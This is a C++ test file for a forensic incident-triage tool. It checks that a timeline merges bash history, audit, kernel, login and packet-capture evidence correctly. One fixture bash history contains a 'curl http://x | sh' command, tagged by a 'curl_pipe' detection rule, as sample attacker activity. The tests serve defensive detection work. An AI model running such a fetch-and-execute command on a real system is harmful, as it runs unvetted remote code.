// SPDX-License-Identifier: Apache-2.0
#include "triage/timeline.h"

#include "casefile/json.h"
#include "playbooks/drill/artefacts/made_capture.h"
#include "tests/support/memory_case.h"

#include <gmock/gmock.h>

namespace firsthour::triage {
namespace {

using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::SizeIs;

Item file(std::string path) {
  Item item;
  item.kind = "file";
  item.path = std::move(path);
  item.host = "web1";
  return item;
}
Item records(std::string kind) {
  Item item;
  item.kind = "records";
  item.path = std::move(kind);
  item.host = "web1";
  return item;
}

std::vector<TimelineEntry> timeline(const CaseReader& the_case, TimelineOptions options = {},
                                    TimelineReport* told = nullptr) {
  std::vector<TimelineEntry> entries;
  options.scratch_folder = ::testing::TempDir();
  const auto report = make_timeline(the_case, options, [&](const TimelineEntry& entry) {
    entries.push_back(entry);
    return true;
  });
  EXPECT_TRUE(report);
  if (told != nullptr && report) *told = *report;
  return entries;
}

std::vector<std::string> messages(const std::vector<TimelineEntry>& entries) {
  std::vector<std::string> all;
  for (const TimelineEntry& entry : entries) all.push_back(entry.message);
  return all;
}

constexpr const char* kHistory = "#1700000010\nid\n";
constexpr const char* kAudit = "type=CWD msg=audit(1700000005.000:1): cwd=\"/\"\n";

TEST(Timeline, IsOneOrderOverAllSources) {
  testing::MemoryCase the_case;
  the_case.add("c1/1", file("/root/.bash_history"), kHistory);
  the_case.add("c1/2", file("/var/log/audit/audit.log"), kAudit);
  the_case.add(
      "c1/3", records("host.process"),
      R"({"type":"host.process","process.start":"2023-11-14T22:13:27.000000000Z","process.pid":7,"process.executable":"/bin/x"})"
      "\n");
  const auto entries = timeline(the_case);
  ASSERT_THAT(entries, SizeIs(3));
  EXPECT_EQ(entries[0].kind, "audit");
  EXPECT_EQ(entries[1].message, "/bin/x 7");
  EXPECT_EQ(entries[2].message, "id");
  EXPECT_EQ(entries[2].user, "root");
  EXPECT_EQ(entries[2].offset, 12u);
}

TEST(Timeline, TimesOfAFileThatAreTheSameAreTogether) {
  testing::MemoryCase the_case;
  the_case.add(
      "c1/1", records("host.file"),
      R"({"type":"host.file","file.path":"/x","file.mode":"0104755","file.mtime":"2023-11-14T22:13:20Z","file.ctime":"2023-11-14T22:13:20Z","file.accessed":"2023-11-15T00:00:00Z","file.inode":9,"file.uid":0,"file.gid":0,"file.size":5})"
      "\n");
  const auto entries = timeline(the_case);
  ASSERT_THAT(entries, SizeIs(2));
  EXPECT_EQ(entries[0].description, "Content Modification Time; Metadata Modification Time");
  EXPECT_EQ(entries[1].description, "Last Access Time");
  TimelineOptions once;
  once.files_once = true;
  const auto lines = timeline(the_case, once);
  ASSERT_THAT(lines, SizeIs(1));
  EXPECT_EQ(timeline_body_line(lines[0]), "0|/x|9|-rwsr-xr-x|0|0|5|1700006400|1700000000|1700000000|0\n");
}

TEST(Timeline, ZoneOfTheHostIsTakenAndStated) {
  testing::MemoryCase the_case;
  Item log = file("/var/log/app.log");
  the_case.add("c1/1", log, "2026-11-23 05:11:28 x\n");
  the_case.add("c1/2", records("host.identity"),
               R"({"type":"host.identity","host.timezone":"+08:00"})"
               "\n");
  TimelineReport report;
  const auto entries = timeline(the_case, {}, &report);
  ASSERT_THAT(entries, SizeIs(1));
  EXPECT_EQ(rfc3339(entries[0].time), "2026-11-22T21:11:28.000000000Z");
  EXPECT_EQ(report.logs.at(0).zone, "assumed +08:00 from the host's time zone");
}

TEST(Timeline, FindingsTagWhatTheyStandOn) {
  testing::MemoryCase the_case;
  the_case.add("c1/1", file("/root/.bash_history"), "#1700000000\nls\n#1700000010\ncurl http://x | sh\n");
  Finding finding;
  finding.rule = "curl_pipe";
  finding.detector = "sigma";
  finding.item = "c1/1";
  finding.path = "/root/.bash_history";
  finding.matches.push_back({"line", 27, 18});
  finding.id = finding_id(finding);
  the_case.append(event_type::finding, to_json(finding));
  const auto entries = timeline(the_case);
  ASSERT_THAT(entries, SizeIs(3));
  EXPECT_TRUE(entries[0].tags.empty());
  EXPECT_THAT(entries[1].tags, ElementsAre("curl_pipe"));
  EXPECT_EQ(entries[2].description, "Finding Recorded");
  EXPECT_THAT(timeline_json_line(entries[1]), HasSubstr("\"tag\":[\"curl_pipe\"]"));
}

TEST(Timeline, LoginsThatTheRawFileTellsAreNotToldTwice) {
  testing::MemoryCase the_case;
  const std::string record =
      R"({"type":"host.login","login.source":"wtmp","login.time":"2023-11-14T22:13:20Z","user.name":"a","file.path":"/var/log/wtmp"})"
      "\n";
  the_case.add("c1/1", records("host.login"), record);
  EXPECT_THAT(timeline(the_case), SizeIs(1));
  the_case.add("c1/2", file("/var/log/wtmp"), std::string(384, '\0'));
  EXPECT_THAT(timeline(the_case), SizeIs(0));
}

TEST(Timeline, WindowAndEntriesWithoutTimeAreCounted) {
  testing::MemoryCase the_case;
  the_case.add("c1/1", file("/root/.bash_history"), "ls\n#1700000000\na\n#1700000010\nb\n#1700000020\nc\n");
  TimelineOptions options;
  options.from = Instant::from_seconds(1700000010);
  options.to = Instant::from_seconds(1700000020);
  TimelineReport report;
  EXPECT_THAT(messages(timeline(the_case, options, &report)), ElementsAre("b"));
  EXPECT_EQ(report.outside, 2u);
  EXPECT_EQ(report.without_time, 1u);
}

TEST(Timeline, TheKernelsLogIsCountedFromTheBoot) {
  testing::MemoryCase the_case;
  the_case.add("c1/1", records("host.identity"),
               R"({"type":"host.identity","host.boot_time":"2023-11-14T22:00:00.000000000Z"})"
               "\n");
  Item log;
  log.kind = "kernel-file";
  log.source = "host.kernel_log";
  log.path = "/dev/kmsg";
  log.host = "web1";
  the_case.add(
      "c1/2", log,
      "6,339,5140900,-;module loaded\n SUBSYSTEM=x\n<4>[  600.000001] tainted\nno time\n6,1,-5,-;odd\n");
  TimelineReport report;
  const auto entries = timeline(the_case, {}, &report);
  ASSERT_THAT(entries, SizeIs(3));
  EXPECT_EQ(entries[0].description, "Host Booted");
  EXPECT_EQ(entries[1].message, "module loaded");
  EXPECT_EQ(rfc3339(entries[1].time), "2023-11-14T22:00:05.140900000Z");
  EXPECT_EQ(entries[2].message, "tainted");
  EXPECT_EQ(rfc3339(entries[2].time), "2023-11-14T22:10:00.000001000Z");
  EXPECT_EQ(entries[2].basis, "since-boot");
  EXPECT_EQ(entries[2].line, 3U);
  EXPECT_EQ(report.without_time, 2U);
}

TEST(Timeline, TheKernelsLogWithoutABootTimeIsSaid) {
  testing::MemoryCase the_case;
  Item log;
  log.kind = "kernel-file";
  log.source = "host.kernel_log";
  log.path = "/dev/kmsg";
  the_case.add("c1/1", log, "6,339,5140900,-;module loaded\n");
  TimelineReport report;
  EXPECT_THAT(timeline(the_case, {}, &report), SizeIs(0));
  ASSERT_THAT(report.not_read, SizeIs(1));
  EXPECT_THAT(report.not_read[0].reason, HasSubstr("since boot"));
}

TEST(Timeline, WhatACaptureShowsAndWhenItWasFoundAreEntries) {
  MadeCapture made;
  MadeTcp http{made, "10.0.0.2", 40000, "10.0.0.1", 80};
  http.open();
  http.client("GET /x.php?password=hunter2 HTTP/1.1\r\nHost: shop.example\r\n\r\n");
  http.server("HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n");
  http.close();
  testing::MemoryCase the_case;
  Item capture;
  capture.kind = "capture";
  capture.path = "eth0.pcap";
  capture.host = "web1";
  the_case.add("c1/1", capture, made.pcap());
  Finding finding;
  finding.rule = "made_rule";
  finding.detector = "network";
  finding.id = "0123456789abcdef";
  finding.item = "c1/1";
  finding.severity = Severity::high;
  the_case.append(event_type::finding, to_json(finding));
  std::vector<std::string> kinds;
  for (const TimelineEntry& entry : timeline(the_case)) {
    kinds.push_back(entry.kind);
    EXPECT_EQ(entry.message.find("hunter2"), std::string::npos);
    if (entry.kind == "network.http") {
      EXPECT_THAT(entry.message, HasSubstr("10.0.0.2:40000 > 10.0.0.1:80 GET shop.example /x.php?password="));
      EXPECT_EQ(entry.description, "Request Sent");
      EXPECT_GT(entry.line, 0U);
    }
    if (entry.source == "finding") EXPECT_EQ(entry.message, "high made_rule");
  }
  EXPECT_THAT(kinds, ::testing::UnorderedElementsAre("network", "network.flow", "network.http"));
}

TEST(Timeline, LittleMemoryGivesTheSame) {
  testing::MemoryCase the_case;
  std::string history;
  for (int i = 0; i < 3000; ++i)
    history += "#" + std::to_string(1700000000 + (i * 7919) % 3000) + "\ncommand " + std::to_string(i) + "\n";
  the_case.add("c1/1", file("/root/.bash_history"), history);
  TimelineOptions small;
  small.memory = 50'000;
  EXPECT_EQ(messages(timeline(the_case)), messages(timeline(the_case, small)));
}

TEST(Timeline, TextsOfEvidenceCannotBreakTheFormats) {
  TimelineEntry entry;
  entry.message = "a|b\n\"c\"\x1b[31m";
  entry.source = "log";
  const auto json = parse_json(timeline_json_line(entry));
  ASSERT_TRUE(json);
  EXPECT_EQ((*json)["message"], entry.message);
  const std::string line = timeline_body_line(entry);
  EXPECT_EQ(std::count(line.begin(), line.end(), '|'), 10);
  EXPECT_EQ(std::count(line.begin(), line.end(), '\n'), 1);
}

}  // namespace
}  // namespace firsthour::triage
